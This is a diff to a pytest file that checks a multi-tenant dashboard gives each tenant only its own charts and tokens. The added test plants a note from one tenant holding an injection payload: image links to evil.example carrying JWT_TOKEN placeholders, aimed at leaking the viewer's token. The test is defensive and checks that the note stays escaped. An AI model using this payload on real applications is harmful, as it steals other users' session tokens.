@@ -20,6 +20,7 @@ from collections.abc import Iterator
 
 import jwt
 import pytest
+from markupsafe import escape
 from http_client import Browser, Reply
 
 from examples.dashboard_server import WORKSPACE_ID
@@ -33,6 +34,8 @@ OWN_ROWS = {
     "globex": {"top_airlines": "Delta", "bookings_by_day": 'data-label="Sat" data-value="180"'},
 }
 IFRAME_SRC = re.compile(r"<iframe\b[^>]*?\bsrc=\"([^\"]*)\"")
+NOTE = re.compile(r'<p id="note">(.*?)</p>', re.S)
+JWT = re.compile(r"eyJ[\w-]*\.eyJ[\w-]*\.[\w-]+")
 
 
 @pytest.fixture(scope="module")
@@ -88,9 +91,10 @@ def test_each_tenant_sees_only_its_own_charts(demo: RunningDemo, tenant: str, ot
     page = logged_in(demo, tenant).get(f"{demo.host_url}/")
     assert page.status == 200
     assert f"Analytics for {NAMES[tenant]}" in page.body
-    assert "JWT_TOKEN" not in page.body, "every placeholder, escaped or raw, must be filled"
     urls = iframe_urls(page.body)
     assert set(urls) == {"top_airlines", "bookings_by_day"}
+    assert not any("JWT_TOKEN" in src for src in urls.values()), "the app's own placeholders are filled"
+    assert len(JWT.findall(page.body)) == 2, "a token goes into the two iframes and nowhere else"
 
     for resource, src in urls.items():
         assert src.startswith(f"{demo.dashboard_url}/embed/{resource}?token=")
@@ -112,6 +116,28 @@ def test_each_tenant_sees_only_its_own_charts(demo: RunningDemo, tenant: str, ot
         assert NAMES[other] not in chart.body
         assert f'data-tenant="{other}"' not in chart.body
         assert OWN_ROWS[other][resource] not in chart.body
+
+
+ATTACKER_NOTE = (
+    '<img src="https://evil.example/a.png?t=<JWT_TOKEN:top_airlines>"> '
+    "![pic](https://evil.example/p.png?t=%3CJWT_TOKEN%3Abookings_by_day%3E) &lt;JWT_TOKEN&gt; <JWT_TOKEN>"
+)
+
+
+def test_a_note_written_by_another_tenant_never_gets_the_viewers_token(demo: RunningDemo) -> None:
+    """Placeholder text globex's user typed into the shared note stays text on acme's page."""
+    attacker = logged_in(demo, "globex")
+    assert attacker.post(f"{demo.host_url}/note", {"note": ATTACKER_NOTE}).status == 200
+    try:
+        page = logged_in(demo, "acme").get(f"{demo.host_url}/")
+        note = NOTE.search(page.body)
+        assert note is not None
+        assert note.group(1) == str(escape(ATTACKER_NOTE)), "user content arrives exactly as rendered"
+        assert "eyJ" not in note.group(1)
+        assert len(JWT.findall(page.body)) == 2, "the two iframes still get their tokens"
+        assert set(iframe_urls(page.body)) == {"top_airlines", "bookings_by_day"}
+    finally:
+        attacker.post(f"{demo.host_url}/note", {"note": "Welcome!"})
 
 
 def test_page_with_tokens_is_never_cached(demo: RunningDemo) -> None:
